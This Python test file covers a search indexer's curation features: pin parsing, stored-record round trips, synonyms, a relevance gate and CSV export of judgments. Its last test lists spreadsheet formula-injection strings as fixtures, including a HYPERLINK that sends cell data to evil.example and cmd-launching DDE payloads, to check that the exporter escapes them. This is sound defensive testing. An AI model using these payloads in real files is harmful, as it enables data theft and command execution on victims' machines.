"""Pure parts around the rules: pin lines, record round trips, proposals, the gate's verdict,
the CSV pagesift eval reads, and the web app's timed copy."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest

from indexer.curation import judging, store
from indexer.curation.best_bets import BestBet, BestBetError, Pin, parse_pins, parse_targets, pins_text
from indexer.curation.gate import Change, Report
from indexer.curation.model import Curation
from indexer.curation.proposals import draft_rule
from indexer.curation.store import Judgment
from indexer.curation.synonyms import Synonym
from indexer.index.documents import document_id
from indexer.relevance.judgments import load_csv

pytestmark = pytest.mark.unit


def test_pin_lines_take_a_position_or_the_next_place() -> None:
    pins = parse_pins("2 https://x.org/a\n\nhttps://X.org/b#top\n 5 https://x.org/c ")
    assert [(p.url, p.position) for p in pins] == [("https://x.org/a", 2), ("https://x.org/b", 3),
                                                  ("https://x.org/c", 5)]
    assert pins[0].doc_id == document_id("https://x.org/a")
    assert parse_pins(pins_text(pins)) == pins


@pytest.mark.parametrize("text", ["0 https://x.org/a", "11 https://x.org/a", "1 not-a-url", "ftp://x.org/a"])
def test_unusable_pin_lines_say_which_line(text: str) -> None:
    with pytest.raises(BestBetError, match="line 1"):
        parse_pins(text)


def test_hide_lines_are_urls() -> None:
    assert [t.url for t in parse_targets("https://x.org/a\nhttps://x.org/b")] == ["https://x.org/a",
                                                                                 "https://x.org/b"]


def test_records_survive_the_round_trip_through_their_source() -> None:
    bet = BestBet("id1", "Budget", "contains", (Pin("d", "https://x.org/a", 1),), (),
                  datetime(2026, 1, 1, tzinfo=UTC), None, "why", datetime(2026, 1, 2, tzinfo=UTC), "Ana")
    assert store.best_bet_from("id1", store.best_bet_source(bet)) == bet
    synonym = Synonym("s1", "tv, television", "", datetime(2026, 1, 2, tzinfo=UTC), "Ana")
    assert store.synonym_from("s1", store.synonym_source(synonym)) == synonym
    assert store.judgment_id("council  budget", "u") == store.judgment_id("council budget", "u")


@pytest.mark.parametrize("source", [
    {"kind": "best_bet"},  # no query
    {"kind": "best_bet", "query": 7},
    {"kind": "best_bet", "query": "q", "match": "fuzzy"},
    {"kind": "best_bet", "query": "q", "pins": {"doc_id": "a", "url": "u", "position": 1}},
    {"kind": "best_bet", "query": "q", "hidden": [{"doc_id": "a"}]},
    {"kind": "best_bet", "query": "q", "starts": 1767225600000},
])
def test_a_best_bet_record_a_search_could_not_use_is_refused(source: dict[str, object]) -> None:
    with pytest.raises((KeyError, TypeError, ValueError)):
        store.best_bet_from("x", source)


def test_a_time_stored_without_its_zone_is_read_as_utc() -> None:
    bet = store.best_bet_from("x", {"kind": "best_bet", "query": "q", "starts": "2026-01-01T00:00:00"})
    assert bet.starts == datetime(2026, 1, 1, tzinfo=UTC)
    assert bet.active(datetime(2026, 1, 2, tzinfo=UTC))  # comparable with the aware times searches use


def test_a_curation_with_a_rule_replaces_the_stored_one_of_its_id() -> None:
    old, new = BestBet("a", "old"), BestBet("a", "new")
    curation = Curation((old, BestBet("b", "other")))
    assert [b.query for b in curation.with_best_bet(new).best_bets] == ["other", "new"]
    assert [b.query for b in curation.with_best_bet(None, dropping="a").best_bets] == ["other"]
    with_tv = Curation().with_synonym(Synonym("s", "tv, television"))
    assert with_tv.expansions("tv") and not with_tv.with_synonym(None, dropping="s").expansions("tv")


@pytest.mark.parametrize(("typed", "found", "rule"), [
    ("feryy timetable", "ferry timetable", "feryy => ferry"),
    ("jailed reporter", "jailed reporter", None),
    ("powercut", "power cut", "powercut => power cut"),
])
def test_drafts_turn_the_readers_words_into_the_sites(typed: str, found: str, rule: str | None) -> None:
    assert draft_rule(typed, found) == rule


def test_the_gate_warns_on_any_judged_query_worse() -> None:
    same = Report((Change("a", 0.5, 0.5),), 0.5, 0.5)
    worse = Report((Change("a", 0.5, 0.2), Change("b", 0.1, 0.9)), 0.3, 0.55)
    assert not same.warns and same.changed == ()
    assert worse.warns and [c.query for c in worse.dropped] == ["a"] and worse.delta == 0.25


def test_the_console_judgments_are_the_csv_pagesift_eval_reads(tmp_path: Path) -> None:
    stored = [Judgment("council budget", "https://x.org/a", 3),
              Judgment("council budget", "https://x.org/b", 0),
              Judgment('say "hi", ok', "https://x.org/c", 1)]
    path = tmp_path / "judgments.csv"
    path.write_text(judging.to_csv(stored), encoding="utf-8")
    assert load_csv(path) == judging.judged(stored)



# Queries are what readers typed: any of them may start like a spreadsheet formula.
FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"budget\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted", "plain budget"]


def test_the_judgments_csv_runs_no_formula_in_a_spreadsheet_and_reads_back_the_same(tmp_path: Path) -> None:
    stored = [Judgment(q, f"https://x.org/{n}", 2) for n, q in enumerate(FORMULAS)]
    stored.append(Judgment("budget", "=cmd|' /C calc'!A0", 1))
    text = judging.to_csv(stored)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], text
    assert "'=HYPERLINK(" in text and "'-2+3" in text and "''=already quoted" in text
    path = tmp_path / "judgments.csv"
    path.write_text(text, encoding="utf-8")
    assert load_csv(path) == judging.judged(stored)  # pagesift eval reads the queries as typed
